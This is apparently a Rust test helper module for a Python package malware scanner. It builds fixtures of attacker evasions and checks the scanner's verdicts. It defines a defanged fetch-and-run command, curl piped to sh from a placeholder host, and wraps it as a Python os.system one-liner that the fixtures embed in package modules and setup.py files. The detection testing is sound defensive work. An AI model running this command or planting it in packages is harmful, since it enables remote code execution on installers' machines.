//! What attackers do so that nobody sees it: one fixture for each evasion of the catalogue, with the
//! verdict that it must get. All of them carry the same two defanged payloads.
#![expect(clippy::unwrap_used, reason = "tests fail by panicking")]

mod archives;
mod code;
mod files;
mod triggers;

use std::io::Cursor;

use fondaco_archive::Limits;
use fondaco_inspect::{Context, inspect, on_large_stack};
use fondaco_testkit::{Dist, Sdist, Wheel};
use fondaco_verdict::{Report, Trigger, Verdict};

/// A command that fetches and runs; the host never resolves.
pub(crate) const COMMAND: &str = "curl -s http://x.example.invalid/a | sh";

/// The same as one line of Python.
pub(crate) fn plain() -> String {
    format!("__import__('os').system('{COMMAND}')")
}

/// One evasion.
pub(crate) struct Evasion {
    pub(crate) name: &'static str,
    pub(crate) dist: Dist,
    /// At least this; with a rule beside it, clean means that the evidence need not be enough.
    pub(crate) verdict: Verdict,
    /// A rule that must have found it; none for those that must be clean.
    pub(crate) rule: &'static str,
    /// When the code of that finding runs.
    pub(crate) trigger: Option<Trigger>,
}

pub(crate) fn evasion(
    name: &'static str,
    dist: Dist,
    (verdict, rule): (Verdict, &'static str),
    trigger: impl Into<Option<Trigger>>,
) -> Evasion {
    Evasion { name, dist, verdict, rule, trigger: trigger.into() }
}

/// A wheel whose package is this one module, and some innocent text around it.
pub(crate) fn module(code: &str) -> Wheel {
    Wheel::new("x", "1").file("x/__init__.py", code)
}

/// An sdist with this `setup.py`, whose package is innocent.
pub(crate) fn setup(code: &str) -> Sdist {
    let head = "from setuptools import setup\n";
    Sdist::new("x", "1").file("x/__init__.py", HONEST).file("setup.py", format!("{head}{code}"))
}

/// More than a hollow package has.
pub(crate) const HONEST: &str = "def newest(versions):\n    \"\"\"The newest of some versions.\"\"\"\n    \
    return max(versions, key=parts)\n\n\ndef parts(text):\n    \"\"\"The numbers of a version.\"\"\"\n    \
    return [int(part) for part in text.split('.')]\n\n\ndef newer(left, right):\n    \
    \"\"\"Whether the first is newer.\"\"\"\n    return parts(left) > parts(right)\n\n\ndef oldest(versions):\n    \
    \"\"\"The oldest of some versions.\"\"\"\n    return min(versions, key=parts)\n";

pub(crate) fn inspected(dist: &Dist) -> Report {
    let context = Context { file_name: dist.file_name.clone(), ..Context::default() };
    let bytes = dist.bytes.to_vec();
    on_large_stack(move || inspect(Cursor::new(bytes), &context, &Limits::for_testing())).unwrap()
}

fn failure(evasion: &Evasion) -> Option<String> {
    let report = inspected(&evasion.dist);
    let named = report.findings.iter().filter(|finding| finding.rule.as_str() == evasion.rule);
    let found =
        named.filter(|finding| evasion.trigger.is_none() || finding.trigger == evasion.trigger).count();
    // A capability that is found and not held: what it weighs is the fit's affair.
    let fits = match (evasion.verdict, evasion.rule) {
        (Verdict::Clean, "") => report.verdict == Verdict::Clean,
        (verdict, _) => report.verdict >= verdict,
    };
    let fits = fits && (evasion.rule.is_empty() || found > 0);
    let findings: Vec<String> = report
        .findings
        .iter()
        .map(|f| format!("{} {:?} {}:{} {}", f.rule, f.trigger, f.member, f.line, f.excerpt))
        .collect();
    (!fits).then(|| {
        format!(
            "{}: {:?} {:.2}, wanted {:?} by {}\n      {}\n      unscanned: {:?}",
            evasion.name,
            report.verdict,
            report.score,
            evasion.verdict,
            evasion.rule,
            findings.join("\n      "),
            report.unscanned
        )
    })
}

#[track_caller]
pub(crate) fn hold(evasions: &[Evasion]) {
    let failures: Vec<String> = evasions.iter().filter_map(failure).collect();
    assert!(failures.is_empty(), "{} of {}:\n  {}", failures.len(), evasions.len(), failures.join("\n  "));
}
